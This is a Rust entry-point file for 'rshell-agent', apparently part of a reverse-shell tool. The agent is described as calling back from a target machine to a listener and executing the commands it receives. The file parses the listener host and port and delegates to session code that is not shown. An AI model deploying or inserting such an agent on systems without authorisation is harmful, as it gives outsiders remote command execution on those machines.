mod session;

use anyhow::{anyhow, Result};
use clap::Parser;
use rshell_common::connection::{CONNECT_TIMEOUT, RETRY_INTERVAL};
use rshell_common::exec::ShellRunner;
use sysinfo::System;

#[derive(Parser)]
#[command(name = "rshell-agent")]
#[command(about = "Target-side agent: calls back to the listener and executes commands")]
struct Args {
    /// Listener address to call back to
    host: String,

    /// Listener port
    port: String,
}

#[tokio::main]
async fn main() -> Result<()> {
    tracing_subscriber::fmt::init();
    let args = Args::parse();

    let port: u16 = args
        .port
        .parse()
        .map_err(|_| anyhow!("port must be a number, got '{}'", args.port))?;
    let addr = format!("{}:{}", args.host, port);
    let hostname = System::host_name().unwrap_or_else(|| "unknown".to_string());

    session::run_agent(&addr, &hostname, &ShellRunner, RETRY_INTERVAL, CONNECT_TIMEOUT).await
}
